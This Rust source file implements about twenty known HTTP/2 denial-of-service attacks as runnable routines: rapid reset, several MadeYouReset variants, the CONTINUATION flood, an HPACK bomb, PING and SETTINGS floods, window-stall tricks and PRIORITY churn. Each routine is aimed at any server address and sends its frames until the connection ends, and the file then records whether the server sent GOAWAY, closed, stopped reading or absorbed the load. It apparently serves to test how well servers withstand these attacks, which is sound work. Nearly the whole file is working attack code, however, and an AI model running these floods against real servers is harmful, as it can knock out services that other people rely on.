//! The ways that are known to bring servers of HTTP/2 down, each as one connection that goes on until it is stopped.
//!
//! Names as in the reports of the Netflix study of 2019 (CVE-2019-9511 and on), of rapid reset (CVE-2023-44487), of the CONTINUATION
//! flood (VU#421644) and of MadeYouReset (CVE-2025-8671).

use std::io;
use std::net::SocketAddr;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use super::{Frame, Wire, flag, get, kind, literal};

/// Whom it meets.
#[derive(Debug, Clone, Copy)]
pub struct Target {
    /// The server.
    pub address: SocketAddr,
    /// A path with a short answer.
    pub short: &'static str,
    /// A path with an answer of megabytes.
    pub long: &'static str,
}

/// How a connection ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// GOAWAY with this code (RFC 9113 §7).
    GoAway(u32),
    /// Closed without a word.
    Closed,
    /// The server read no more.
    Stopped,
    /// It took all of it and lives.
    Absorbed,
}

impl Outcome {
    /// GOAWAY with ENHANCE_YOUR_CALM.
    pub const CALM: Self = Self::GoAway(0xb);
}

/// One of them.
#[derive(Clone, Copy)]
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    /// What it says of its windows and table.
    settings: &'static [(u16, u32)],
    /// Whether it reads what the server sends; whoever does not may miss a GOAWAY.
    pub reads: bool,
    /// Before the first round.
    begin: fn(&mut Wire, Target),
    /// One round of it: a batch of frames, given how many there were before.
    round: fn(&mut Wire, Target, u32),
}

/// Rounds that go into one write.
const BATCH: u32 = 16;
/// How long a server may refuse to read before that is its answer.
const STOPPED: Duration = Duration::from_millis(500);

const INITIAL_WINDOW_SIZE: u16 = 4;
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

fn nothing(_: &mut Wire, _: Target) {}

/// The stream of a round.
fn odd(round: u32) -> u32 {
    2 * round + 1
}

const fn plain(name: &'static str, round: fn(&mut Wire, Target, u32)) -> Attack {
    Attack { name, settings: &[], reads: true, begin: nothing, round }
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    plain("rapid reset", |wire, target, round| {
        wire.put_get(odd(round), target.long);
        wire.put(kind::RST_STREAM, flag::NONE, odd(round), &CANCEL);
    }),
    plain("made reset: window of 0", |wire, target, round| {
        wire.put(kind::HEADERS, flag::END_HEADERS, odd(round), &get(target.short));
        wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round), &[0; 4]);
    }),
    plain("made reset: window overflow", |wire, target, round| {
        wire.put(kind::HEADERS, flag::END_HEADERS, odd(round), &get(target.short));
        wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round), &(u32::MAX / 2).to_be_bytes());
    }),
    plain("made reset: DATA behind the end", |wire, target, round| {
        wire.put_get(odd(round), target.long);
        wire.put(kind::DATA, flag::NONE, odd(round), b"x");
    }),
    plain("made reset: PRIORITY on itself", |wire, target, round| {
        wire.put(kind::HEADERS, flag::END_HEADERS, odd(round), &get(target.short));
        let [a, b, c, d] = odd(round).to_be_bytes();
        wire.put(kind::PRIORITY, flag::NONE, odd(round), &[a, b, c, d, 16]);
    }),
    plain("made reset: malformed head", |wire, target, round| {
        let mut block = get(target.short);
        literal(&mut block, b"Upper", b"case");
        wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round), &block);
    }),
    Attack {
        reads: false,
        ..plain("PING without reading", |wire, _, round| {
            wire.put(kind::PING, flag::NONE, 0, &u64::from(round).to_be_bytes());
        })
    },
    Attack {
        reads: false,
        ..plain("SETTINGS without reading", |wire, _, _| wire.put(kind::SETTINGS, flag::NONE, 0, &[]))
    },
    plain("SETTINGS of thousands", |wire, _, round| {
        let entry = [0, INITIAL_WINDOW_SIZE as u8, 0, 0, 0, round as u8];
        wire.put(kind::SETTINGS, flag::NONE, 0, &entry.repeat(2730));
    }),
    Attack {
        begin: |wire, target| wire.put(kind::HEADERS, flag::END_HEADERS, 1, &get(target.short)),
        ..plain("empty DATA", |wire, _, _| wire.put(kind::DATA, flag::NONE, 1, &[]))
    },
    Attack {
        begin: |wire, target| wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short)),
        ..plain("empty CONTINUATION", |wire, _, _| wire.put(kind::CONTINUATION, flag::NONE, 1, &[]))
    },
    Attack {
        begin: |wire, target| wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short)),
        ..plain("CONTINUATION without end", |wire, _, _| {
            let mut block = Vec::new();
            literal(&mut block, b"x-more", &[b'x'; 16_000]);
            wire.put(kind::CONTINUATION, flag::NONE, 1, &block);
        })
    },
    Attack {
        // One entry of nearly the whole table (RFC 7541 §4.2), in the first request.
        begin: |wire, target| {
            let mut block = get(target.short);
            let mut entry = Vec::new();
            literal(&mut entry, b"x-bomb", &[b'x'; 3900]);
            // With indexing.
            entry[0] = 0x40;
            block.extend(entry);
            wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 1, &block);
        },
        ..plain("HPACK bomb", |wire, target, round| {
            let mut block = get(target.short);
            // The newest entry of the dynamic table.
            block.extend([0x80 | 62; 12_000]);
            wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round + 1), &block);
        })
    },
    plain("fields of no name and no value", |wire, target, round| {
        let mut block = get(target.short);
        (0..4000).for_each(|_| literal(&mut block, b"", b""));
        wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round), &block);
    }),
    Attack {
        settings: &[(INITIAL_WINDOW_SIZE, 0)],
        ..plain("large answers, closed windows", |wire, target, round| {
            // As many as may be open at once; then it waits.
            if round < 128 {
                wire.put_get(odd(round), target.long);
            } else {
                wire.put(kind::PING, flag::ACK, 0, &[0; 8]);
                std::thread::sleep(Duration::from_millis(2));
            }
        })
    },
    Attack {
        settings: &[(INITIAL_WINDOW_SIZE, 1)],
        begin: |wire, target| (0..100).for_each(|round| wire.put_get(odd(round), target.long)),
        ..plain("windows of one octet", |wire, _, round| {
            wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round % 100), &1u32.to_be_bytes());
        })
    },
    Attack {
        begin: |wire, target| wire.put_get(1, target.short),
        ..plain("PRIORITY churn", |wire, _, round| {
            wire.put(kind::PRIORITY, flag::NONE, odd(round % 1000), &[0, 0, 0, 0, round as u8]);
        })
    },
    plain("heads that never end", |wire, target, round| {
        // Held open: nothing may follow on this connection but what belongs to the head.
        if round == 0 {
            wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short));
        }
        std::thread::sleep(Duration::from_millis(5));
    }),
    Attack {
        reads: false,
        ..plain("requests without reading", |wire, target, round| wire.put_get(odd(round), target.short))
    },
];

impl Attack {
    /// Keeps at it on one connection, until it is stopped or the time is over.
    ///
    /// # Errors
    /// When not even a connection comes about.
    pub fn run(&self, target: Target, most: Duration) -> io::Result<Outcome> {
        let until = Instant::now() + most;
        let mut wire = Wire::connect(target.address, self.settings)?;
        wire.patience(STOPPED)?;
        // What comes is read beside the writing, so that neither waits for the other.
        let (sender, ended) = mpsc::channel();
        let mut reader = wire.twin()?;
        let reads = self.reads;
        let (go, begin) = mpsc::channel::<()>();
        let reading = std::thread::spawn(move || {
            if !reads {
                let _ = begin.recv();
            }
            let _ = sender.send(last_word(&mut reader, until));
        });
        (self.begin)(&mut wire, target);
        let mut round = 0;
        let mut refused = None;
        while Instant::now() < until && refused.is_none() {
            (0..BATCH).for_each(|step| (self.round)(&mut wire, target, round + step));
            round += BATCH;
            refused = wire.flush().err();
            if reading.is_finished() {
                break;
            }
        }
        drop(go);
        let stopped =
            refused.is_some_and(|error| matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut));
        if stopped && !self.reads {
            return Ok(Outcome::Stopped);
        }
        Ok(match ended.recv().unwrap_or(None) {
            Some(Outcome::Absorbed) if stopped => Outcome::Stopped,
            Some(outcome) => outcome,
            None => Outcome::Closed,
        })
    }
}

/// How the server's side ends; [`Outcome::Absorbed`] when it does not until then.
fn last_word(wire: &mut Wire, until: Instant) -> Option<Outcome> {
    loop {
        match wire.receive() {
            Ok(Some(Frame { kind: kind::GOAWAY, payload, .. })) => {
                let code = payload.get(4..8)?.try_into().ok()?;
                return Some(Outcome::GoAway(u32::from_be_bytes(code)));
            }
            Ok(Some(_)) if Instant::now() < until => {}
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                if Instant::now() >= until {
                    return Some(Outcome::Absorbed);
                }
            }
            Ok(Some(_)) => return Some(Outcome::Absorbed),
            Ok(None) | Err(_) => return None,
        }
    }
}
